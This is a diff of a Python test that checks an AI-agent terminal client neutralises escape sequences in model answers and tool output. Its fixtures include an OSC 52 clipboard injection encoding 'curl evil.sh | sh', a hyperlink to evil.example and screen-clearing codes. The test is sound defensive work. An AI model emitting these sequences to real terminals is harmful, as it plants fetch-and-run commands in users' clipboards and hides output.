@@ -24,7 +24,7 @@ CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
 
 def script(fake_ollama) -> None:
     fake_ollama.script(
-        Turn(tool_calls=[call("read_text_file", path="notes.txt")]),
+        Turn(tool_calls=[call("read_file", path="notes.txt")]),
         Turn(tool_calls=[call(f"evil{CLEAR}tool")]),
         Turn(f"Answer {CLIPBOARD} with {LINK} and {CLEAR}{C1} {TRICKS} end\n\ttabbed"),
     )
@@ -46,7 +46,7 @@ def test_answers_and_tool_output_reach_the_terminal_harmless(fake_ollama, tmp_pa
     assert not CONTROL.search(err), repr(err)
     assert "Answer ␛]52;c;Y3VybCBldmlsLnNoIHwgc2gK␇ with ␛]8;;https://evil.example/" in out
     assert re.search(r"end\n\s+tabbed", out)  # newline and tab kept (rich expands the tab)
-    assert "← read_text_file file ␛]52;c;" in err and "\\x9b31m" in err
+    assert "← read_file 1: file ␛]52;c;" in err and "\\x9b31m" in err
     assert "→ evil␛[2J␛[Htool" in err
 
 
